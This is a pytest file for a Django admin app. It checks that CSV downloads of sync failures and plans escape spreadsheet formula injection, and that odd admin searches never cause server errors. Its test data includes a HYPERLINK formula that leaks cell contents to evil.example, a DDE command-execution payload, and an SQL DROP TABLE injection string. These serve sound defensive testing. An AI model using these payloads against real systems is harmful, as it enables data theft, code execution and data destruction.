"""Bad input, the run pages: identities and destination messages that a spreadsheet would
run as formulas (CSV injection) in the plan and failure downloads, and run searches typed
carelessly. Every answer is a page or a file, never a 500, and every cell opens as text.

(Malformed run ids in these URLs are the role work's bad-input cases.)"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from syncs.models import SyncRun
from tests.factories import ProfileFactory, SyncFactory, SyncFailureFactory, SyncRunFactory
from tests.syncs.fakes import FakeConnector, fake_connector_fixture, run_now  # noqa: F401

pytestmark = pytest.mark.django_db

# What a spreadsheet (Excel, LibreOffice, Google Sheets, Numbers) may evaluate when a CSV
# cell starts with it: formulas, DDE, and the full-width forms some locales accept, also
# after leading spaces or a line break that an import trims.
FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1dHYPERLINK(\"x\")",  # FULLWIDTH EQUALS SIGN
    "\uff0b1",  # FULLWIDTH PLUS SIGN
    "\uff0d1",  # FULLWIDTH HYPHEN-MINUS
    "\uff20SUM(1)",  # FULLWIDTH COMMERCIAL AT
]
PLAIN = ["ana@example.com", "user 42", "1+1", "a=b", "2024-01-01", ""]


def _cells(response: Any) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def _opens_as_text(cell: str) -> bool:
    return cell.startswith("'")


@pytest.mark.parametrize("formula", FORMULAS, ids=[repr(f)[:24] for f in FORMULAS])
def test_failure_csv_cells_that_would_be_formulas_open_as_text(admin_client: Any, formula: str) -> None:
    run = SyncRunFactory()
    SyncFailureFactory(run=run, distinct_id=formula, identity_value=formula, code=formula, message=formula)

    response = admin_client.get(reverse("admin:syncs_syncrun_failures_csv", args=[run.pk]))

    assert response.status_code == 200
    header, row = _cells(response)
    values = dict(zip(header, row, strict=True))
    for column in ("distinct_id", "identity_value", "code", "message"):
        assert _opens_as_text(values[column]), (column, values[column])
        assert values[column][1:] == formula  # nothing else changed: the data is still there


@pytest.mark.parametrize("plain", PLAIN)
def test_plain_cells_are_left_alone(admin_client: Any, plain: str) -> None:
    run = SyncRunFactory()
    SyncFailureFactory(run=run, distinct_id=plain, identity_value=plain, message=plain)
    header, row = _cells(admin_client.get(reverse("admin:syncs_syncrun_failures_csv", args=[run.pk])))
    values = dict(zip(header, row, strict=True))
    assert (values["distinct_id"], values["identity_value"], values["message"]) == (plain, plain, plain)


def test_plan_csv_identities_and_ids_that_would_be_formulas_open_as_text(admin_client: Any,
                                                                         fake: FakeConnector) -> None:
    # Identities come from profile properties, which any API token holder can set.
    for number, formula in enumerate(FORMULAS[:4] + FORMULAS[-4:]):
        ProfileFactory(distinct_id=f"{formula}#{number}",
                       properties={"plan": "pro", "$email": f"user{number}@example.com"})
    dry = run_now(SyncFactory(), dry_run=True)

    rows = _cells(admin_client.get(reverse("admin:syncs_syncrun_plan_csv", args=[dry.pk])))

    assert rows[0] == ["run", "operation", "identity", "distinct_id"]
    assert len(rows) == 9
    assert all(_opens_as_text(row[3]) for row in rows[1:]), rows


# --- Search ----------------------------------------------------------------------------------------


SEARCHES = [
    "x" * 5000,
    "%",
    "_",
    "%_%",
    "'",
    "\"",
    "\\",
    "'; DROP TABLE syncs_syncrun; --",
    "99999999999999999999",
    "9223372036854775807",
    "9223372036854775808",
    "-1",
    "#",
    "#0",
    "١٢",  # Arabic-Indic digits: isdigit() is true, int() reads them
    "１２",  # full-width digits
    "\u0000",
    "  ",
]


@pytest.mark.parametrize("search", SEARCHES, ids=[repr(s)[:20] for s in SEARCHES])
@pytest.mark.parametrize("changelist", ["syncs_syncrun", "syncs_syncfailure", "syncs_sync"])
def test_odd_searches_answer_a_page(admin_client: Any, search: str, changelist: str) -> None:
    run = SyncRunFactory(sync=SyncFactory(name="100% done_ok"))
    SyncFailureFactory(run=run, distinct_id="user_1", identity_value="a%b@example.com")

    response = admin_client.get(reverse(f"admin:{changelist}_changelist"), {"q": search})

    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:  # only a run number opens that run
        assert response["Location"] == reverse("admin:syncs_syncrun_change", args=[run.pk])


@pytest.mark.parametrize("raw", ["%ED%A0%80", "%FF%FE", "%00", "%25%5F"])
def test_searches_that_are_not_utf8_answer_a_page(admin_client: Any, raw: str) -> None:
    SyncRunFactory()
    response = admin_client.get(f"{reverse('admin:syncs_syncrun_changelist')}?q={raw}")
    assert response.status_code == 200


def test_percent_and_underscore_are_searched_as_themselves(admin_client: Any) -> None:
    wanted = SyncRunFactory(sync=SyncFactory(name="100% done"))
    SyncRunFactory(sync=SyncFactory(name="1000 done"))

    response = admin_client.get(reverse("admin:syncs_syncrun_changelist"), {"q": "0% d"})

    assert response.status_code == 200
    assert list(response.context["cl"].result_list) == [wanted]


def test_a_run_number_searched_in_full_width_or_past_64_bits_finds_no_run(admin_client: Any) -> None:
    run = SyncRunFactory()
    for search in (f"#{run.pk}", str(run.pk)):
        response = admin_client.get(reverse("admin:syncs_syncrun_changelist"), {"q": search})
        assert response.status_code == 302
    for search in (str(run.pk + 2**64), "".join(chr(0xFF10 + int(d)) for d in str(run.pk))):
        response = admin_client.get(reverse("admin:syncs_syncrun_changelist"), {"q": search})
        assert response.status_code == 200
        assert SyncRun.objects.count() == 1
